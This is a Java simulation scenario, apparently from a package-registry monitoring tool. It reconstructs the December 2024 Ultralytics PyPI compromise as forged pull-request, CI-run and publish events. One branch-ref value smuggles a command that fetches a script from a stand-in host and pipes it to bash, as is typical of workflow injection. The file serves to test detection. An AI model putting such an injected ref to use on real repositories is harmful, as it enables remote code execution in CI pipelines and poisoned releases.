package dev.pubwatch.cli.simulate.scenario.attack;

import dev.pubwatch.cli.simulate.scenario.Odd;
import dev.pubwatch.cli.simulate.scenario.Scenario;
import dev.pubwatch.cli.simulate.scenario.Story;
import dev.pubwatch.cli.simulate.world.Unit;
import dev.pubwatch.cli.simulate.world.Who;
import dev.pubwatch.events.CiContext;
import java.time.Instant;
import java.util.List;
import java.util.Map;

/**
 * Attested releases by the rightful workflow: only requests with odd names and the shape of the run
 * could tell.
 */
public final class UltralyticsWave1 implements Scenario {
  @Override
  public About about() {
    return new About(
        "ultralytics-wave-1",
        "a branch name injected into a workflow poisons the cache of a trusted publisher",
        Kind.MALICIOUS,
        "2024-12-04",
        "blog.pypi.org 2024-12-11");
  }

  @Override
  public void tell(Story story) {
    Unit yolo = Ultralytics.join(story);
    for (int i = 0; i < 2; i++) {
      Instant request = story.time("2024-12-04T19:33:00Z").plusSeconds(i * 1_380L);
      Who stranger = story.person("openimbot", yolo, request);
      Map<String, String> id = Map.of("pull_request_id", "1801" + (8 + i * 2));
      story.forge(request, "other:pull_request.opened", yolo, stranger, null, "pull request", id);
      CiContext run =
          Odd.run("format.yml", "1216699" + i, "pull_request_target")
              .setRef("refs/heads/$({curl,-sSfL,raw.example/file.sh}${IFS}|${IFS}bash)")
              .setEgressHosts(List.of("pypi.org", "raw.example"))
              .build();
      story.forge(request.plusSeconds(12), "run:start", yolo, stranger, run, "run");
      story.forge(
          request.plusSeconds(40),
          "other:pull_request.closed",
          yolo,
          stranger,
          null,
          "pull request",
          id);
      story.forge(
          request.plusSeconds(80),
          "run:complete",
          yolo,
          stranger,
          CiContext.newBuilder(run).setConclusion("success").build(),
          "run");
    }
    for (String day : List.of("2024-12-04T20:51:00Z", "2024-12-05T12:47:00Z")) {
      Instant at = story.time(day);
      CiContext run =
          Odd.run("publish.yml", "121700" + at.getEpochSecond() % 1_000, "push")
              .setHeadSha("bb" + at.getEpochSecond())
              .build();
      Who pusher = story.maintainer(yolo, at);
      story.forge(at.minusSeconds(240), "run:start", yolo, pusher, run, "publish run");
      story.publish(at, yolo, 0, story.robot(yolo, at), "publish", Odd.ofRun(run));
      story.forge(
          at.plusSeconds(25),
          "run:complete",
          yolo,
          pusher,
          CiContext.newBuilder(run).setConclusion("success").build(),
          "publish run");
    }
  }
}
